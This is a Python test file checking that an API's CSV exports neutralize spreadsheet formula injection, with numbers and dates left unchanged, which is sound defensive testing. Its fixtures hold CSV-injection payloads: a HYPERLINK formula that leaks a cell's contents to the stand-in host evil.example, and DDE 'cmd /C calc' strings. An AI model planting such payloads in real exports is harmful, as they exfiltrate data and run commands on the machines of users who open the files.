"""CSV exports neutralize spreadsheet formulas (OWASP CSV injection), on both databases."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from api.listing import csv_cell
from core import store
from core.db import session_scope
from core.models import Connection
from core.records import AccountRecord, DealRecord, UserRecord
from tests.api_support import running_api

FORMULAS = {
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")":
        "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0": "'@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2": "'\t=1+2",
    "\r=1+2": "'\r=1+2",
}


@pytest.fixture
async def api(engine):
    async with running_api(engine) as api:
        with session_scope(engine) as session:
            conn = Connection(provider="zoho", name="=evil()", home_currency="USD")
            session.add(conn)
            session.flush()
            api.cid = conn.id
            store.upsert_records(session, stream="users", connection_id=conn.id, records=[
                UserRecord("u1", "=HYPERLINK(\"http://evil.example\")", "ann@x.com")])
            store.upsert_records(session, stream="accounts", connection_id=conn.id, records=[
                AccountRecord(f"a{i}", name, owner_email="ann@x.com")
                for i, name in enumerate([*FORMULAS, "-12.5", "Plain - Co"])])
            store.upsert_records(session, stream="deals", connection_id=conn.id, records=[
                DealRecord(f"d{i}", name, amount=Decimal("-1500.50"), currency="USD",
                           amount_home=Decimal("-1500.50"), status="won",
                           close_date=date(2025, 2, 1), owner_email="ann@x.com",
                           account_name=name,
                           remote_created_at=datetime(2025, 1, 22, 12, tzinfo=UTC))
                for i, name in enumerate(FORMULAS)])
        yield api


def parse(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


async def test_deal_and_account_names_are_neutralized_in_list_csv(api):
    deals = await api.get("/api/v1/deals", params={"format": "csv"})
    assert deals.status_code == 200, deals.text
    rows = parse(deals.text)
    assert {r["name"] for r in rows} == set(FORMULAS.values())
    assert {r["account_name"] for r in rows} == set(FORMULAS.values())
    # numbers and dates stay typed values: a negative amount is still a number
    assert {Decimal(r["amount"]) for r in rows} == {Decimal("-1500.50")}
    assert {r["close_date"] for r in rows} == {"2025-02-01"}
    assert {r["remote_created_at"] for r in rows} == {"2025-01-22T12:00:00Z"}
    accounts = parse((await api.get("/api/v1/accounts", params={"format": "csv"})).text)
    names = {r["name"] for r in accounts}
    assert names == {*FORMULAS.values(), "-12.5", "Plain - Co"}  # a numeric text stays as is
    # JSON is not a spreadsheet format: the names come back exactly as stored
    page = (await api.get("/api/v1/deals")).json()["data"]
    assert {r["name"] for r in page} == set(FORMULAS)


async def test_metrics_and_connections_csv_are_neutralized(api):
    summary = await api.get("/api/v1/metrics/summary", params={
        "start": "2025-01-01", "end": "2025-03-31", "group_by": "owner", "format": "csv"})
    assert summary.status_code == 200, summary.text
    rows = parse(summary.text)
    data = [r for r in rows if r["row_type"] == "data"]
    assert [r["owner_name"] for r in data] == ["'=HYPERLINK(\"http://evil.example\")"]
    assert Decimal(data[0]["bookings"]) == Decimal("-9003.00")  # negative, untouched
    assert data[0]["bookings"].startswith("-")
    by_connection = parse((await api.get("/api/v1/metrics/summary", params={
        "start": "2025-01-01", "end": "2025-03-31", "group_by": "connection",
        "format": "csv"})).text)
    assert [r["connection_name"] for r in by_connection if r["row_type"] == "data"] == [
        "'=evil()"]
    connections = parse((await api.get("/api/v1/connections", params={"format": "csv"})).text)
    assert [r["name"] for r in connections] == ["'=evil()"]


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("-1.5", "-1.5"), ("-1e5", "-1e5"), ("-", "'-"),
    ("-1-1", "'-1-1"), ("@x", "'@x"), ("a=b", "a=b"), ("", ""),
    (Decimal("-3.25"), "-3.25"), (-7, "-7"), (-0.5, "-0.5"), (date(2025, 1, 2), "2025-01-02"),
    (None, ""), (True, "true"),
])
def test_csv_cell(value, cell):
    assert csv_cell(value) == cell
